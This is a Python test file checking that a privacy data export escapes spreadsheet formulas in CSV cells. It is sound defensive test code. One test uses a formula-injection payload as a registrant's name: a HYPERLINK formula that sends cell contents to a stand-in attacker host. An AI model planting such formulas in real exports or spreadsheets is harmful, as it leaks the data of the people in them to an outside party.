"""The export's CSV files never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from keryx.privacy.domain.export import csv_safe
from keryx.privacy.domain.requests import subject_export_logged
from keryx.registrations.domain.registrations import RegistrantData, registration_create
from tests.registrations.helpers import publish


def test_cells_that_start_a_formula_get_a_quote() -> None:
    assert [csv_safe(v) for v in ("=1+1", "+30 210", "-x", "@SUM", "\tx", "ok", None, 5)] == [
        "'=1+1",
        "'+30 210",
        "'-x",
        "'@SUM",
        "'\tx",
        "ok",
        "",
        "5",
    ]
    assert csv_safe(["a", "b"]) == '["a", "b"]'


@pytest.mark.django_db
def test_a_registrant_named_like_a_formula_exports_as_text(user, seminar) -> None:  # type: ignore[no-untyped-def]
    publish(seminar, user)
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    registration_create(
        seminar=seminar,
        data=RegistrantData(
            name=name, email="formula@example.org", language="el", consents=["privacy"]
        ),
    )
    data, _request = subject_export_logged("formula@example.org")
    text = zipfile.ZipFile(io.BytesIO(data)).read("registrations-registration.csv").decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == "'" + name
